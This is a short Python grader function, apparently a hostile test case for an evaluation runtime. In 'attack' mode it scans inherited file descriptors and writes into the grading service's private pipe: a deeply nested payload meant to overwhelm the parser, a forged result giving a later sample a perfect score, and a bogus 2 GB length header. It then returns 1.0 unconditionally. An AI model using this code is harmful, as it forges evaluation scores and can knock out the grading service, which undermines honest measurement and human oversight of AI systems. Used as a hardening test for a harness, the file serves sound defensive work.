# Finds the runtime's private pipe to the service and writes forged messages into it: first a
# header announcing a 2 GB message, after a deeply nested one, then a result for a later sample.
import json
import os
import struct


def grade(sample, item):
    if item.get("mode") != "attack":
        return 1.0 if sample["output_text"] == item["reference"] else 0.0
    nested = ("[" * 200_000 + "]" * 200_000).encode()
    forged = json.dumps({"i": 5, "value": 1.0, "error": None}).encode()
    for fd in range(3, 64):
        try:
            os.write(fd, struct.pack(">I", len(nested)) + nested)
            os.write(fd, struct.pack(">I", len(forged)) + forged)
            os.write(fd, b"\x7f\xff\xff\xff" + b"x" * 1000)
        except OSError:
            pass
    return 1.0
